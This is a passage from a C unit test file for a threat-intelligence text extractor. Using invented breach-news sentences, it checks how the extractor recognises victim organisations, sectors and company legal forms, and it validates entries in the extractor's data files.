       CTIX_ENTITY_VICTIM, "Harbrook Mills", true},
      {"Vexmar, the aircraft manufacturer, confirmed a cyber incident.", CTIX_ENTITY_SECTOR, "manufacturing",
       true},
      {"The attack hit the manufacturer's plants in Ohio.", CTIX_ENTITY_SECTOR, "manufacturing", true},
  };
  for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
    if (has(cases[i].text, cases[i].kind, cases[i].name) != cases[i].named)
      fail_msg("%s %s in: %s", cases[i].named ? "no" : "a", cases[i].name, cases[i].text);
}

/* A references or mitigations heading sets its section's victims aside
 * only when it IS such a heading ("References", "Recommended
 * mitigations"), never as one word of a longer heading or of the
 * document's title; advice's "should" keeps a clause of its own that
 * tells an attack, and "ransomware operators" are no readers. */
static void test_sector_victim_review2(void **state)
{
  (void)state;
  static const name_case cases[] = {
      {"# Sources: hackers breached Contoso Water before mitigation was possible\n\n## The attack\n\nThe "
       "crew breached Adatum Hospital in March.",
       CTIX_ENTITY_VICTIM, "Adatum Hospital", true},
      {"# Sources: hackers breached Contoso Water before mitigation was possible\n\n## The attack\n\nThe "
       "crew breached Adatum Hospital and two other hospitals in March.",
       CTIX_ENTITY_SECTOR, "healthcare", true},
      {"# Report\n\n## Remediation costs after the Contoso Energy breach\n\nThe crew breached Contoso "
       "Energy in May.",
       CTIX_ENTITY_VICTIM, "Contoso Energy", true},
      {"# Report\n\n## Reference case: the Litware hospital intrusion\n\nThe crew breached Litware Bank "
       "in May.",
       CTIX_ENTITY_VICTIM, "Litware Bank", true},
      {"# Remediation lessons from the Litware breach\n\nThe gang breached Litware Bank in 2024.",
       CTIX_ENTITY_VICTIM, "Litware Bank", true},
      {"# Report\n\n## Recommended mitigations\n\nA look back at the attack on Orlen Freight, 2019.",
       CTIX_ENTITY_VICTIM, "Orlen Freight", false},
      {"# Report\n\n## Mitigations and recommendations\n\nA look back at the attack on Orlen Freight, "
       "2019.",
       CTIX_ENTITY_VICTIM, "Orlen Freight", false},
      {"# Report\n\n## 7. Sources\n\nA look back at the attack on Orlen Freight, 2019.", CTIX_ENTITY_VICTIM,
       "Orlen Freight", false},
      {"Rail operators should expect more attacks after the group breached Tailspin Rail, a railway operator "
       "in Poland.",
       CTIX_ENTITY_VICTIM, "Tailspin Rail", true},
      {"Water utility operators should know that the actors compromised Fabrikam Water, a water utility in "
       "Texas.",
       CTIX_ENTITY_VICTIM, "Fabrikam Water", true},
      {"Organizations should note that the gang hit Adatum Bank, a regional bank, in April.", CTIX_ENTITY_VICTIM,
       "Adatum Bank", true},
      {"Organizations should note that the gang hit three banks in April.", CTIX_ENTITY_SECTOR, "finance", true},
      {"The energy sector should brace itself: the attackers breached Contoso Energy.", CTIX_ENTITY_VICTIM,
       "Contoso Energy", true},
      {"Administrators should know that attackers compromised Adatum Hospital.", CTIX_ENTITY_VICTIM,
       "Adatum Hospital", true},
      {"Ransomware operators should not be underestimated: last week they breached Contoso Energy.",
       CTIX_ENTITY_VICTIM, "Contoso Energy", true},
      {"Ransomware operators should find the hospitals of the region an easy mark.", CTIX_ENTITY_SECTOR,
       "healthcare", true},
      {"Operators in the energy sector should review their logs after the holidays.", CTIX_ENTITY_SECTOR,
       "energy", false},
  };
  for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
    if (has(cases[i].text, cases[i].kind, cases[i].name) != cases[i].named)
      fail_msg("%s %s in: %s", cases[i].named ? "no" : "a", cases[i].name, cases[i].text);
}

/* Names with a legal form: an organisation, named without the form, which
 * stays the mention's alias; a malware or tool rule drops them. */
static void test_victim_legal_forms(void **state)
{
  (void)state;
  ctix_document *doc = NULL;
  const char *text = "Dravik Pipelines S.A. confirmed a ransomware attack on Monday. Later the attack on "
                     "Dravik Pipelines was claimed by a new gang.";
  ctix_entity_list *l = run(text, &doc);
  const ctix_entity *v = find(l, CTIX_ENTITY_VICTIM, "Dravik Pipelines");
  assert_non_null(v);
  assert_null(find(l, CTIX_ENTITY_VICTIM, "Dravik Pipelines S.A."));
  assert_int_equal(v->nmentions, 2);
  /* The first mention spans the name with its form, its alias as written. */
  assert_string_equal(v->mentions[0].alias, "Dravik Pipelines S.A.");
  assert_int_equal(v->mentions[0].end - v->mentions[0].start, strlen("Dravik Pipelines S.A."));
  assert_memory_equal(doc->text + v->mentions[0].start, "Dravik Pipelines S.A.", strlen("Dravik Pipelines S.A."));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  /* A form's final dot stays in the alias. */
  l = run("The actors breached Acme Corp. last year.", &doc);
  assert_non_null(v = find(l, CTIX_ENTITY_VICTIM, "Acme"));
  assert_string_equal(v->mentions[0].alias, "Acme Corp.");
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  /* "Health" alone names no organisation: the victim is "Health SA",
   * counted where it is written so. */
  l = run("The ransomware attack on Health SA disrupted hospitals. The Department of Health said Health "
          "services were restored. Health officials and the Health Minister were briefed.",
          &doc);
  assert_null(find(l, CTIX_ENTITY_VICTIM, "Health"));
  assert_non_null(v = find(l, CTIX_ENTITY_VICTIM, "Health SA"));
  assert_int_equal(v->nmentions, 1);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  check_cases(legal_cases, sizeof(legal_cases) / sizeof(legal_cases[0]));
}

/* A line of data/entity/FILE and whether its parser takes it. */
typedef struct line_case {
  const char *file, *text;
  bool ok;
} line_case;

static const line_case line_cases[] = {
    {"legalforms.txt", "Pte. Ltd.", false},            /* listed twice */
    {"legalforms.txt", "Aktiengesellschaft", false},   /* a word too long to match */
    {"legalforms.txt", "S/A", false},                  /* "/" is a token of its own */
    {"legalforms.txt", "A B C D", false},              /* four words */
    {"legalforms.txt", "Abcd Efgh Ijkl Mnop Qrst Uvw", false}, /* a key too long */
    {"legalforms.txt", "S.C.A.", true},
    {"legalforms.txt", ", PLLC", true},
    {"patterns.tsv", "!{N} confirmed", false},
    {"patterns.tsv", "attack on !{P}", false},
    {"patterns.tsv", "attack on !*", false},
    {"patterns.tsv", "{N} 's|s network", false},
    {"patterns.tsv", "{N} !'s network", false},
    {"patterns.tsv", "{N} 's network", true},
    {"patterns.tsv", "{N} confirmed !by", true},
    {"patterns.tsv", "{N} , a|an * @kind", true},       /* a word class */
    {"patterns.tsv", "{N} , a|an * @nosuchclass", false},
};

/* The legal form and pattern parsers reject what could never match. */
static void test_entity_data_lines(void **state)
{
  (void)state;
  for (size_t i = 0; i < sizeof(line_cases) / sizeof(line_cases[0]); i++) {
    ctix_error err;
    memset(&err, 0, sizeof(err));
    int rc = ctix__entity_check_line(line_cases[i].file, line_cases[i].text, &err);
    if ((rc == 0) != line_cases[i].ok)
      fail_msg("%s \"%s\": rc %d (%s)", line_cases[i].file, line_cases[i].text, rc, err.message);
    if (!line_cases[i].ok && (rc != CTIX_EPARSE || !strstr(err.message, "data/entity/")))
      fail_msg("%s \"%s\": no clear error (%s)", line_cases[i].file, line_cases[i].text, err.message);
  }
  /* The message names the form. */
  ctix_error err;
  memset(&err, 0, sizeof(err));
  assert_int_equal(ctix__entity_check_line("legalforms.txt", "S/A", &err), CTIX_EPARSE);
  assert_non_null(strstr(err.message, "\"S/A\""));
}

/* Victims of news of an attack: appositions, a place's organisation, the
 * subject of a breach disclosure and possessives, each only in a sentence
 * about an attack or incident. */
static void test_victim_news(void **state)
{
  (void)state;
  check_cases(news_cases, sizeof(news_cases) / sizeof(news_cases[0]));
  /* A title's capitals say nothing about where the name ends. */
  assert_int_equal(victim_count("See: Portugal's Water Utility Aguamar Confirms Data Theft in Attack"), 0);
  /* A vendor disclosing a flaw exploited in attacks is no victim. */
  assert_int_equal(
      victim_count("Norvale disclosed the vulnerability on Monday, warning that it is exploited in attacks."), 0);
  /* A passive "disclosed by" names what was disclosed, not who. */
  assert_int_equal(victim_count("The attack matches the Zorvane TTPs disclosed by researchers last year."), 0);
}

/* A victim named in full once and by its first words elsewhere is one
 * victim, under its full name. */
static void test_victim_short_name(void **state)
{
  static const char text[] =
      "Nordwind Logistics GmbH confirmed that it was hit by a ransomware attack last week.\n\n"
      "The attackers stole data from Nordwind's network before deploying the encryptor.\n";
  (void)state;
  assert_int_equal(victim_count(text), 1);
  assert_true(has(text, CTIX_ENTITY_VICTIM, "Nordwind Logistics"));
  assert_false(has(text, CTIX_ENTITY_VICTIM, "Nordwind"));
  /* a sibling company named with the same first word: no merge */
  static const char sib[] =
      "Ransomware attack. Acme Bank confirmed that it was hit by ransomware. Acme Insurance "
      "confirmed that it was hit too. Attackers breached Acme's network.\n";
  assert_true(has(sib, CTIX_ENTITY_VICTIM, "Acme Bank"));
  assert_true(has(sib, CTIX_ENTITY_VICTIM, "Acme"));
}

static void test_vocabulary(void **state)
{
  (void)state;
  ctix_error err;
  ctix_error_clear(&err);
  const ctix__lexicon *lx = ctix__entity_lexicon(&err);
  assert_non_null(lx);
  assert_true(lx->nrules > 10);
  assert_true(lx->nplaces > 200);
  assert_true(lx->nsectors >= 15);
  assert_true(lx->ndesignators > 5);
  assert_true(lx->ambiguous.count > 100);
  assert_true(lx->legal_forms.count > 20);
  assert_true(lx->incident.count > 10);
  assert_true(lx->reporter.count > 5);
  assert_string_equal(ctix_entity_kind_name(CTIX_ENTITY_GROUP), "group");
  assert_string_equal(ctix_entity_kind_name(CTIX_ENTITY_LOCATION), "location");
  assert_string_equal(ctix_entity_kind_name(CTIX_ENTITY_KIND_COUNT), "unknown");
  ctix_entity_list_free(NULL);
  ctix_entity_list *l = NULL;
  assert_int_equal(ctix_entity_extract(&l, NULL, NULL, NULL, &err), CTIX_EINVAL);
  assert_null(l);
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_known_alias),    cmocka_unit_test(test_ambiguous_word),
      cmocka_unit_test(test_utility),        cmocka_unit_test(test_new_tool_names),
      cmocka_unit_test(test_listed_tools),   cmocka_unit_test(test_other_kb),
      cmocka_unit_test(test_new_names),      cmocka_unit_test(test_apt_designator),
      cmocka_unit_test(test_new_names_off),  cmocka_unit_test(test_kev),
      cmocka_unit_test(test_places_sectors), cmocka_unit_test(test_victims),
      cmocka_unit_test(test_victim_legal_forms), cmocka_unit_test(test_victim_news),
      cmocka_unit_test(test_victim_not_reporters), cmocka_unit_test(test_entity_data_lines),
      cmocka_unit_test(test_victim_short_name), cmocka_unit_test(test_sector_victim_asides),
      cmocka_unit_test(test_sector_victim_news),
      cmocka_unit_test(test_sector_victim_review2),
      cmocka_unit_test(test_vocabulary),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
